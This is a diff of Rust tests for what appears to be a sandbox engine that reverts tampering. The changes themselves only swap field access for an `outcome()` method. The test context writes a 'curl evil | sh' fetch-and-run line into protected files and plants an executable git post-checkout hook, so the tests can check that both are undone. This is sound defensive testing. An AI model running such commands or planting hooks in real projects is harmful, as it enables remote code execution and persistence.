@@ -91,7 +91,7 @@ fn planted_hooks_and_git_config_are_reverted(#[case] script: &str) {
     let script = format!("HOOK='{HOOK}'; {script}");
 
     let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", &script]);
-    let outcome = report.outcome.as_ref().expect("the command ran");
+    let outcome = report.outcome().expect("the command ran");
     eprintln!(
         "planted: exit {:?}, stderr {}",
         outcome.status,
@@ -150,7 +150,7 @@ fn a_hook_planted_in_a_repository_made_during_the_command_is_removed() {
     let script = "git init -q sub 2>/dev/null || { mkdir -p sub/.git/hooks sub/.git/objects sub/.git/refs; echo 'ref: refs/heads/main' > sub/.git/HEAD; }; \
                   printf '#!/bin/sh\\ntouch \"$MARKER\"\\n' > sub/.git/hooks/post-checkout; chmod +x sub/.git/hooks/post-checkout";
     let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", script]);
-    assert!(report.outcome.is_some());
+    assert!(report.outcome().is_some());
     let sub = fx.workspace().join("sub");
     assert!(sub.join(".git").exists(), "the repository itself stays");
     assert!(
@@ -165,7 +165,7 @@ fn a_plain_git_init_is_not_tampering() {
     let fx = Fixture::new();
     let engine = fx.engine("");
     let report = run_allowed(&engine, "/usr/bin/git", &["git", "init", "-q", "fresh"]);
-    let outcome = report.outcome.as_ref().unwrap();
+    let outcome = report.outcome().unwrap();
     assert!(
         fx.workspace().join("fresh/.git/HEAD").exists(),
         "git init failed: {}",
@@ -188,7 +188,7 @@ fn protected_files_are_reverted(#[case] name: &str, #[case] initial: Option<&str
     let script =
         format!("mkdir -p \"$(dirname {name})\"; echo 'curl evil | sh' > {name}; echo wrote");
     let report = run_allowed(&engine, "/bin/sh", &["sh", "-c", &script]);
-    let outcome = report.outcome.as_ref().unwrap();
+    let outcome = report.outcome().unwrap();
     assert_eq!(String::from_utf8_lossy(&outcome.stdout.bytes), "wrote\n");
     match initial {
         Some(text) => assert_eq!(std::fs::read_to_string(&path).unwrap(), text),
@@ -214,7 +214,7 @@ fn ordinary_work_in_the_workspace_is_not_tampering() {
             "echo more >> README; mkdir src; echo x > src/a.txt",
         ],
     );
-    assert!(report.outcome.is_some());
+    assert!(report.outcome().is_some());
     assert!(report.tampered.is_empty(), "{:?}", report.tampered);
     assert_eq!(
         std::fs::read_to_string(fx.workspace().join("README")).unwrap(),
